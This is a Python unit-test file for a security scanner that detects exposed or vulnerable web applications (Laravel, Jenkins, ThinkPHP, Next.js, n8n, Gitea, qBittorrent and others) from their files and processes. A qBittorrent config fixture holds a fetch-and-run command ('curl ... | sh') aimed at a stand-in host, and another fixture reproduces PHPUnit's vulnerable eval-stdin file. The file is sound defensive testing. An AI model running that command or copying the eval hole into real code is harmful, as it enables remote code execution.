"""What is known of web applications, read off their own files as they write them, and judged."""

from __future__ import annotations

import json
from collections.abc import Mapping, Sequence

import pytest
from tests.unit.collect.services.sample import kernel, listener, process

from davy.collect.services import services
from davy.detect.exposures import is_open, values_of
from davy.host import Entry, Host, MemoryRoot
from davy.knowledge.services import known_services
from davy.model.facts import Process, Socket
from davy.model.services import Service

Files = Mapping[str, bytes | str | Entry]

LARAVEL = "APP_NAME=Shop\nAPP_KEY=base64:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=\nAPP_DEBUG=true\n"
JENKINS = """\
<?xml version='1.1' encoding='UTF-8'?>
<hudson>
  <version>2.303.2</version>
  <useSecurity>{security}</useSecurity>
  <authorizationStrategy class="hudson.security.{strategy}"/>
  <securityRealm class="hudson.security.HudsonPrivateSecurityRealm"><disableSignup>true</disableSignup></securityRealm>
</hudson>
"""
EVAL = "<?php\neval('?>' . file_get_contents('php://{stream}'));\n"


def opened(
    files: Files, processes: Sequence[Process] = (), sockets: Sequence[Socket] = (),
    environment: Mapping[int, str] | None = None,
) -> dict[str, set[str]]:  # fmt: skip
    """What stands open on a host, by the ids of the services."""
    held = {one.pid: tuple(socket.inode for socket in sockets) for one in processes}
    host = Host(MemoryRoot(files), kernel(held, environment) if processes else None)
    found: dict[str, set[str]] = {}
    for one in services(host, processes, sockets, ()):
        if isinstance(one, Service) and (ways := _ways(one)):
            found.setdefault(one.kind, set()).update(ways)
    return found


def _ways(service: Service) -> set[str]:
    return {
        opening.id
        for opening in known_services()[service.kind].opening
        if (service.running or not opening.running_only) and is_open(opening, values_of(service), service.reached_from)
    }


def lock(package: str, version: str) -> str:
    """A composer.lock as Composer writes it."""
    return json.dumps({"packages": [{"name": package, "version": version, "source": {"type": "git"}}]}, indent=4)


@pytest.mark.parametrize(
    ("version", "way"),
    [("2.5.1", "debug-page-runs-code"), ("2.17.7", "debug-page"), ("1.16.3", "debug-page-runs-code")],
)
def test_laravel_is_told_by_its_settings_and_ignition_s_version(version: str, way: str) -> None:
    files = {"/var/www/shop/.env": LARAVEL, "/var/www/shop/composer.lock": lock("facade/ignition", version)}
    assert opened(files) == {"laravel": {way}}
    closed = files | {"/var/www/shop/.env": LARAVEL.replace("true", "false")}
    assert opened(closed) == {}


def test_phpunit_s_file_is_told_by_what_it_reads() -> None:
    place = "/var/www/html/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"
    assert opened({place: EVAL.format(stream="input")}) == {"phpunit": {"code-by-anybody"}}
    assert opened({place: EVAL.format(stream="stdin")}) == {}


def test_thinkphp_s_version_stands_in_its_own_files() -> None:
    of_old = "<?php\ndefine('THINK_VERSION', '5.0.23');\n"
    assert opened({"/www/wwwroot/shop/thinkphp/base.php": of_old}) == {"thinkphp": {"functions-by-anybody"}}
    later = "<?php\nclass App\n{\n    const VERSION = '5.1.31';\n}\n"
    assert opened({"/www/wwwroot/shop/thinkphp/library/think/App.php": later}) == {}


def test_jenkins_says_in_its_configuration_who_may_what() -> None:
    java = process(
        5, "/usr/lib/jvm/java-17/bin/java", "/usr/bin/java", "-jar", "/usr/share/java/jenkins.war", "--httpPort=8080"
    )
    config, sockets = "/var/lib/jenkins/config.xml", [listener(50, "::", 8080)]
    anybody = JENKINS.format(security="false", strategy="AuthorizationStrategy$Unsecured")
    assert opened({config: anybody}, [java], sockets)["jenkins"] >= {"no-login", "files-by-anybody"}
    everybody = JENKINS.format(security="true", strategy="AuthorizationStrategy$Unsecured")
    assert "anybody-is-everybody" in opened({config: everybody}, [java], sockets)["jenkins"]
    known = JENKINS.format(security="true", strategy="FullControlOnceLoggedInAuthorizationStrategy")
    assert opened({config: known.replace("2.303.2", "2.462.3")}, [java], sockets) == {}


@pytest.mark.parametrize(
    ("title", "open_"),
    [("next-server (v15.1.6)", True), ("next-server (v15.1.9)", False), ("next-server (v14.2.3)", False)],
)
def test_next_js_is_open_where_an_affected_server_runs(title: str, open_: bool) -> None:
    node, sockets = process(5, "/usr/local/bin/node", title), [listener(50, "::", 3000)]
    assert opened({}, [node], sockets) == ({"nextjs": {"code-by-anybody"}} if open_ else {})


def test_a_static_export_has_no_server_and_is_not_open() -> None:
    files = {"/srv/site/node_modules/next/package.json": '{"name": "next", "version": "15.1.6"}'}
    flask = process(5, "/usr/bin/python3.11", "python3", "-m", "flask", "run", "--port", "8008")
    assert opened(files, [flask], [listener(50, "0.0.0.0", 8008)]) == {}


def test_n8n_of_old_asks_for_a_login_only_if_it_is_told_to() -> None:
    node, sockets = process(5, "/usr/local/bin/node", "node", "/usr/local/bin/n8n"), [listener(50, "::", 5678)]
    bare = {5: "N8N_VERSION=0.128.0"}
    assert opened({}, [node], sockets, bare) == {"n8n": {"workflows-by-anybody"}}
    told = {5: "N8N_VERSION=0.128.0\0N8N_BASIC_AUTH_ACTIVE=true"}
    assert opened({}, [node], sockets, told) == {}


def test_opencode_is_closed_by_its_password() -> None:
    serve = process(5, "/usr/local/bin/opencode", "opencode", "serve", "--hostname", "0.0.0.0")
    sockets = [listener(50, "0.0.0.0", 4096)]
    assert opened({}, [serve], sockets, {5: "HOME=/root"}) == {"opencode": {"commands-by-anybody"}}
    assert opened({}, [serve], sockets, {5: "OPENCODE_SERVER_PASSWORD=long"}) == {}


def test_qbittorrent_s_own_words_say_what_it_runs_and_for_whom() -> None:
    config = "/home/ada/.config/qBittorrent/qBittorrent.conf"
    lines = '[AutoRun]\nenabled=true\nprogram=bash -c "curl http://192.0.2.7/x | sh"\n[Preferences]\nWebUI\\Port=8080\n'
    passwd = "ada:x:1000:1000::/home/ada:/bin/sh\n"
    nox = process(5, "/usr/bin/qbittorrent-nox", "/usr/bin/qbittorrent-nox")
    files = {"/etc/passwd": passwd, config: lines}
    sockets = [listener(50, "0.0.0.0", 8080)]
    assert opened(files, [nox], sockets) == {"qbittorrent": {"default-password", "runs-a-download"}}
    mended = '[AutoRun]\nenabled=false\n[Preferences]\nWebUI\\Password_PBKDF2="@ByteArray(x:y)"\nWebUI\\Port=8080\n'
    assert opened(files | {config: mended}, [nox], sockets) == {}


def test_gitea_is_told_by_its_ini_and_its_version() -> None:
    web, sockets = process(5, "/app/gitea/gitea", "/usr/local/bin/gitea", "web"), [listener(50, "::", 3000)]
    config = {"/data/gitea/conf/app.ini": "[security]\nINSTALL_LOCK = true\n[service]\nDISABLE_REGISTRATION = true\n"}
    assert opened(config, [web], sockets, {5: "GITEA_VERSION=1.27.0"}) == {"gitea": {"patch-becomes-a-hook"}}
    assert opened(config, [web], sockets, {5: "GITEA_VERSION=1.27.1"}) == {}
